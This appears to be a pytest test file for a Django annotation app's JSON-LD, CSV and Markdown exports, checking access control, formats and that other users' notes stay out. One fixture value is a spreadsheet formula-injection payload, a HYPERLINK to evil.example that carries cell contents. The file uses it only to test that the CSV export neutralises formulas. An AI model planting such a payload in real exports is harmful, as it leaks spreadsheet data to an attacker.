"""A reader's own annotations as JSON-LD, CSV and Markdown downloads, and a course's for its
instructors: contents, media types, file names, and that nobody else's notes leak in."""

import csv
import io
import json

import pytest
from django.test import Client
from django.utils import timezone

from annotations import exporting, selectors, w3c
from annotations.services import TextSelector, annotation_create, annotation_delete
from courses import exports
from courses.services import course_create, course_join
from tests.courses.conftest import make_instructor
from tests.factories import make_user

BASE = "http://testserver"
P2 = "Ein Archiv ist ein Ort der Bildproduktion, sagt man."
P3 = "Bilder über Bildern, Größe und Maß: „operative Bilder“."
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Klick")'
GERMAN = 'Größe und Maß: „operative Bilder“, "zitiert";\nzweite Zeile, ÄÖÜ äöü ß'


def passage(paragraph, exact: str) -> TextSelector:
    start = paragraph.text.index(exact)
    return TextSelector(start, start + len(exact), exact)


@pytest.fixture
def notes(people, edition):
    """ann's notes: a comment on p2 (public), a question on a passage of p3 (her group's),
    a highlight on p2, a note on the whole of p3, and her reply to her comment. Not hers: ben's
    reply, cy's private note, ann's deleted note."""
    p2, p3 = (edition.paragraphs.get(public_id=pid) for pid in ("p2", "p3"))
    ann, ben, cy = people["ann"], people["ben"], people["cy"]
    comment = annotation_create(
        user=ann,
        paragraph=p2,
        selector=passage(p2, "Bildproduktion"),
        motivation="commenting",
        body=GERMAN,
        tags=["These", "Bild"],
        visibility="public",
    )
    question = annotation_create(
        user=ann,
        paragraph=p3,
        selector=passage(p3, "„operative Bilder“"),
        motivation="questioning",
        body=HOSTILE,
        tags=["Farocki"],
        visibility="group",
        group=people["group"],
        colour="blue",
    )
    highlight = annotation_create(
        user=ann,
        paragraph=p2,
        selector=passage(p2, "Ein Archiv"),
        motivation="highlighting",
        visibility="private",
        colour="green",
    )
    whole = annotation_create(
        user=ann, paragraph=p3, motivation="commenting", body="Der ganze Absatz.", tags=[]
    )
    reply = annotation_create(
        user=ann, parent=comment, motivation="replying", body="Nachtrag: siehe *Archivtheorie*."
    )
    annotation_create(user=ben, parent=comment, motivation="replying", body="Bens Antwort")
    annotation_create(user=cy, paragraph=p2, motivation="commenting", body="Cys Geheimnis")
    gone = annotation_create(user=ann, paragraph=p2, motivation="commenting", body="Verworfen")
    annotation_delete(user=ann, annotation=gone)
    return {
        "comment": comment,
        "question": question,
        "highlight": highlight,
        "whole": whole,
        "reply": reply,
    }


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def today() -> str:
    return timezone.localdate().isoformat()


def read_csv(response) -> list[dict]:
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf"), "a byte order mark, so Excel reads UTF-8"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


# Who may download


@pytest.mark.parametrize("name", ["export.jsonld", "export.csv", "export.md"])
def test_exports_ask_an_anonymous_visitor_to_log_in(db, name):
    response = Client().get(f"/annotations/mine/{name}")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/?next=")


@pytest.mark.parametrize("name", ["export.jsonld", "export.csv", "export.md"])
def test_exports_hold_only_my_live_annotations_and_replies(people, notes, name):
    content = client_for(people["ann"]).get(f"/annotations/mine/{name}").content.decode()
    for foreign in ("Bens Antwort", "Cys Geheimnis", "Verworfen"):
        assert foreign not in content
    assert "Nachtrag" in content


def test_my_annotations_page_links_to_the_exports_of_what_it_lists_and_to_the_import(people, notes):
    page = client_for(people["ann"]).get("/annotations/mine/?tag=these").content.decode()
    for url in (
        "/annotations/mine/export.md?tag=these",
        "/annotations/mine/export.csv?tag=these",
        "/annotations/mine/export.jsonld?tag=these",
        "/annotations/import/",
    ):
        assert f'href="{url}"' in page


# JSON-LD


def test_jsonld_export_is_a_w3c_collection_of_my_annotations_in_reading_order(people, notes):
    response = client_for(people["ann"]).get("/annotations/mine/export.jsonld")

    assert response.status_code == 200
    assert response["Content-Type"] == w3c.MEDIA_TYPE
    assert response["Content-Disposition"] == (
        f'attachment; filename="my-annotations-{today()}.jsonld"'
    )
    data = json.loads(response.content)
    collection_id = f"{BASE}/annotations/mine/export.jsonld"
    mine = list(selectors.annotations_of_reader(people["ann"]))
    assert {key: value for key, value in data.items() if key != "first"} == {
        "@context": w3c.contexts(base_url=BASE),
        "id": collection_id,
        "type": "AnnotationCollection",
        "label": "Annotations by ann",
        "total": 5,
        "last": f"{collection_id}#page-0",
    }
    assert data["first"] == {
        "id": f"{collection_id}#page-0",
        "type": "AnnotationPage",
        "partOf": collection_id,
        "startIndex": 0,
        "items": [w3c.annotation_as_w3c(a, base_url=BASE, context=False) for a in mine],
    }
    paragraphs = [
        item["target"]["selector"]["value"] if isinstance(item["target"], dict) else "reply"
        for item in data["first"]["items"]
    ]
    assert paragraphs == ["p2", "p2", "reply", "p3", "p3"]


def test_jsonld_export_carries_selectors_bodies_tags_and_threads(people, notes):
    data = json.loads(client_for(people["ann"]).get("/annotations/mine/export.jsonld").content)
    items = {item["id"]: item for item in data["first"]["items"]}
    comment = items[w3c.annotation_iri(notes["comment"].uuid, base_url=BASE)]
    assert comment["target"]["selector"]["refinedBy"][0] == {
        "type": "TextQuoteSelector",
        "exact": "Bildproduktion",
        "prefix": "Ein Archiv ist ein Ort der ",
        "suffix": ", sagt man.",
    }
    assert comment["body"] == [
        {
            "type": "TextualBody",
            "value": GERMAN,
            "format": "text/markdown",
            "creator": comment["creator"],
        },
        {"type": "TextualBody", "purpose": "tagging", "value": "Bild"},
        {"type": "TextualBody", "purpose": "tagging", "value": "These"},
    ]
    reply = items[w3c.annotation_iri(notes["reply"].uuid, base_url=BASE)]
    assert reply["motivation"] == "replying"
    assert reply["target"] == comment["id"]
    question = items[w3c.annotation_iri(notes["question"].uuid, base_url=BASE)]
    assert question[w3c.VISIBILITY] == "group"
    assert question[w3c.GROUP] == "seminar-a"


def test_jsonld_export_of_a_tag_holds_only_that_tag(people, notes):
    data = json.loads(
        client_for(people["ann"]).get("/annotations/mine/export.jsonld?tag=farocki").content
    )
    assert data["total"] == 1
    assert data["first"]["items"][0]["motivation"] == "questioning"


def test_jsonld_export_without_annotations_is_an_empty_collection(people):
    data = json.loads(client_for(people["cy"]).get("/annotations/mine/export.jsonld").content)
    assert data["total"] == 0
    assert "first" not in data


def test_jsonld_export_takes_a_bounded_number_of_queries(
    people, notes, django_assert_max_num_queries
):
    client = client_for(people["ann"])
    with django_assert_max_num_queries(12):
        client.get("/annotations/mine/export.jsonld")


# CSV


def test_csv_export_has_a_row_per_note_with_its_columns(people, notes):
    response = client_for(people["ann"]).get("/annotations/mine/export.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="my-annotations-{today()}.csv"'
    )
    rows = read_csv(response)
    assert list(rows[0]) == [
        "id",
        "permalink",
        "edition",
        "paragraph",
        "quote",
        "body",
        "tags",
        "motivation",
        "visibility",
        "group",
        "created",
        "modified",
        "reply_to",
    ]
    by_id = {row["id"]: row for row in rows}
    assert len(rows) == 5
    comment = by_id[str(notes["comment"].uuid)]
    assert comment == {
        "id": str(notes["comment"].uuid),
        "permalink": f"{BASE}/annotations/{notes['comment'].uuid}/",
        "edition": "test-interview",
        "paragraph": "p2",
        "quote": "Bildproduktion",
        "body": GERMAN,
        "tags": "Bild; These",
        "motivation": "commenting",
        "visibility": "public",
        "group": "",
        "created": exporting.iso_datetime(notes["comment"].created),
        "modified": exporting.iso_datetime(notes["comment"].modified),
        "reply_to": "",
    }
    reply = by_id[str(notes["reply"].uuid)]
    assert (reply["paragraph"], reply["quote"], reply["reply_to"]) == (
        "p2",
        "",
        str(notes["comment"].uuid),
    )
    assert by_id[str(notes["question"].uuid)]["group"] == "Seminar A"


def test_csv_export_neutralises_formulas_and_keeps_umlauts(people, notes):
    rows = read_csv(client_for(people["ann"]).get("/annotations/mine/export.csv"))
    question = next(row for row in rows if row["motivation"] == "questioning")
    assert question["body"] == f"'{HOSTILE}"
    assert question["quote"] == "„operative Bilder“"
    assert any(row["body"] == GERMAN for row in rows)


# Markdown


def test_markdown_export_is_a_document_to_write_with(people, notes):
    response = client_for(people["ann"]).get("/annotations/mine/export.md")

    assert response["Content-Type"] == "text/markdown; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="my-annotations-{today()}.md"'
    )
    p2_cite = "(Autorin, 2024, Abs. 2), <http://testserver/test-interview/p2/>"
    p3_cite = "(Autorin, 2024, Abs. 3), <http://testserver/test-interview/p3/>"

    def link(note, kind):
        day = timezone.localdate(note.created)
        return f"[{kind}, {day}]({BASE}/annotations/{note.uuid}/)"

    expected = f"""# My annotations

By ann, exported on {today()} from http://testserver.

## Ein Testgespräch: Über Bilder und Archive

Autorin, A. (2024). Ein Testgespräch: Über Bilder und Archive. Testmagazin, 3(2), 10–12. https://doi.org/10.1234/test.5

### Abs. 2

> Ein Archiv

{p2_cite} · {link(notes["highlight"], "Highlight")}

> Bildproduktion

{GERMAN}

Tags: Bild, These

{p2_cite} · {link(notes["comment"], "Comment")}

Reply to [an annotation]({BASE}/annotations/{notes["comment"].uuid}/):

Nachtrag: siehe *Archivtheorie*.

{p2_cite} · {link(notes["reply"], "Reply")}

### Abs. 3

*On the whole paragraph.*

Der ganze Absatz.

{p3_cite} · {link(notes["whole"], "Comment")}

> „operative Bilder“

{HOSTILE}

Tags: Farocki

{p3_cite} · {link(notes["question"], "Question")}
"""
    assert response.content.decode() == expected


def test_markdown_escapes_what_would_turn_quoted_text_into_markup():
    assert exporting.markdown_escape("Künstler*innen, Illustrator*innen") == (
        r"Künstler\*innen, Illustrator\*innen"
    )
    assert exporting.markdown_escape("[1] <b>_x_</b> `c` #") == (r"\[1\] \<b\>\_x\_\</b\> \`c\` \#")


# A course's annotations, for its instructors


@pytest.fixture
def course_notes(edition):
    """A course with a student's group note and reply, and the student's private note."""
    ines = make_instructor("ines")
    course = course_create(user=ines, title="Bildtheorie")
    stu = make_user("stu")
    course_join(user=stu, code=course.join_code)
    p2 = edition.paragraphs.get(public_id="p2")
    shared = annotation_create(
        user=stu,
        paragraph=p2,
        selector=passage(p2, "Bildproduktion"),
        motivation="commenting",
        body="+49 Größe",
        tags=["These"],
        visibility="group",
        group=course.group,
    )
    annotation_create(user=ines, parent=shared, motivation="replying", body="Gut beobachtet.")
    annotation_create(user=stu, paragraph=p2, motivation="commenting", body="Nur für mich")
    return {"course": course, "instructor": ines, "student": stu, "shared": shared}


def test_an_instructor_exports_the_course_as_jsonld(course_notes):
    course = course_notes["course"]
    response = client_for(course_notes["instructor"]).get(
        f"/courses/{course.slug}/annotations.jsonld"
    )

    assert response.status_code == 200
    assert response["Content-Type"] == w3c.MEDIA_TYPE
    assert response["Content-Disposition"] == (
        f'attachment; filename="{course.slug}-annotations-{today()}.jsonld"'
    )
    data = json.loads(response.content)
    assert data["type"] == "AnnotationCollection"
    assert data["id"] == f"{BASE}/courses/{course.slug}/annotations.jsonld"
    bodies = [item["body"][0]["value"] for item in data["first"]["items"]]
    assert bodies == ["+49 Größe", "Gut beobachtet."]
    assert all(item[w3c.GROUP] == course.group.slug for item in data["first"]["items"])


def test_an_instructor_exports_the_course_as_csv(course_notes):
    course = course_notes["course"]
    response = client_for(course_notes["instructor"]).get(f"/courses/{course.slug}/annotations.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{course.slug}-annotations-{today()}.csv"'
    )
    rows = read_csv(response)
    assert [(row["author"], row["body"]) for row in rows] == [
        ("stu", "'+49 Größe"),
        ("ines", "Gut beobachtet."),
    ]
    assert "Nur für mich" not in response.content.decode()


def test_a_student_cannot_export_the_course(course_notes):
    course = course_notes["course"]
    client = client_for(course_notes["student"])
    for name in ("annotations.jsonld", "annotations.csv"):
        response = client.get(f"/courses/{course.slug}/{name}")
        assert response.status_code == 403
        assert "Größe" not in response.content.decode()


def test_course_exports_neutralise_cells_as_the_readers_export_does():
    assert exports.csv_cell is exporting.csv_cell
